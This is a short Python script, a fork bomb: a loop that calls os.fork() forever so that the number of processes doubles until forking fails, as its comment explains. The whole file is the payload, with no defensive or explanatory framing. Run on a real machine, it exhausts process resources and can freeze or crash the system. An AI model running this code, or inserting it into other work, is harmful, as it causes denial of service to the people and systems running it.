# Every process forks forever: 2, 4, 8, ... until fork fails.
import os

while True:
    os.fork()
